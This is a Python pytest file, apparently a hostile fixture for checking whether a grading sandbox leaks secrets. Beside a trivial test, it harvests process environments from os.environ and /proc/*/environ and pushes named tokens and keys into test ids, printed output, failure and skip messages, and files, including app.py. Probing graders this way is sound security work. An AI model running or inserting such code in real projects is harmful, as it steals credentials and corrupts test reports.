# ruff: noqa
"""Hostile: exfiltrate the environment through every channel a report might show.

Printed output, files, test names (parametrize ids), failure messages; plus the
environment of every process it can see under /proc, and of one host process whose pid
it was told.
"""

import glob
import os
import sys
from pathlib import Path

import pytest

from app import add

HOLDER_PID = "@@HOLDER_PID@@"
NAMES = ("GRADER_CANARY_SECRET", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY")


def _loot() -> str:
    found = {"environ": dict(os.environ)}
    for path in [*glob.glob("/proc/*/environ"), f"/proc/{HOLDER_PID}/environ"]:
        try:
            found[path] = Path(path).read_bytes().decode("utf-8", "replace")
        except OSError as exc:
            found[path] = repr(exc)
    return repr(found)


def test_add():
    assert add(1, 2) == 3


@pytest.mark.parametrize("value", [os.environ.get(name, "absent") for name in NAMES])
def test_secret_in_the_test_name(value):
    assert value == "absent", value


def test_print_environment():
    loot = _loot()
    print(loot)
    sys.stderr.write(loot)


def test_write_environment_to_files():
    loot = _loot()
    for target in ("loot.txt", Path.home() / "loot.txt", "/tmp/loot.txt", "app.py"):
        try:
            with open(target, "a", encoding="utf-8") as sink:
                sink.write(f"\n# {loot}\n")
        except OSError:
            pass


def test_fail_with_environment():
    assert False, "LOOT " + _loot()


def test_skip_with_environment():
    pytest.skip("LOOT " + _loot())
